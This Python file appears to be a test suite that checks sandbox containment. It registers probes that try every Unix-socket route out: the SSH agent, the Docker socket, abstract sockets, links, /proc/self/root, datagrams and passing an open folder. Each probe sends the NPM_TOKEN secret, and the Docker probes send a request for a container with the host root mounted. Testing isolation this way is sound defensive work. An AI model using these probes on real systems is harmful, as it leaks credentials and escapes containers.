# Reaches sockets that are files, and those without one, by every name and kind of socket.
import os, socket
from way import aim, way

stolen = os.environ.get("NPM_TOKEN", "nothing").encode()
agent = b"\0\0\0\1\x0b"
create = b'POST /containers/create HTTP/1.1\r\n\r\n{"HostConfig":{"Binds":["/:/host"]}} '


def stream(path, text):
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(2)
    one.connect(path)
    one.sendall(text + stolen)
    return one.recv(20)


def linked(how, name):
    def run():
        if os.path.lexists(name):
            os.unlink(name)
        how(aim["agent"], name)
        return stream(name, agent + b"way-" + name.encode() + b" ")
    return run


def pair():
    # Never asks for a socket, nor for a connection.
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendto(b"way-pair " + stolen, aim["datagram"])


def message():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return one.sendmsg([b"way-pairmsg ", stolen], [], 0, aim["datagram"])


def datagram():
    return socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"way-datagram " + stolen, aim["datagram"])


def handed():
    # Hands an open folder over, so that who listens could walk out of it.
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(2)
    one.connect(aim["docker"])
    here = os.open(".", os.O_RDONLY)
    return socket.send_fds(one, [b"way-handed "], [here])


way("agent", lambda: stream(aim["agent"], agent + b"way-agent "))
way("named agent", lambda: stream(os.environ["SSH_AUTH_SOCK"], agent + b"way-named "))
way("docker", lambda: stream(aim["docker"], create + b"way-docker "))
way("docker at home", lambda: stream(aim["home_docker"], create + b"way-homedocker "))
way("abstract", lambda: stream("\0" + aim["hidden"], b"way-abstract "))
way("symbolic link", linked(os.symlink, "symlinked"))
way("hard link", linked(os.link, "hardlinked"))
way("self", lambda: stream("/proc/self/root" + aim["agent"], agent + b"way-self "))
way("datagram", datagram)
way("pair", pair)
way("pair by message", message)
way("handed over", handed)
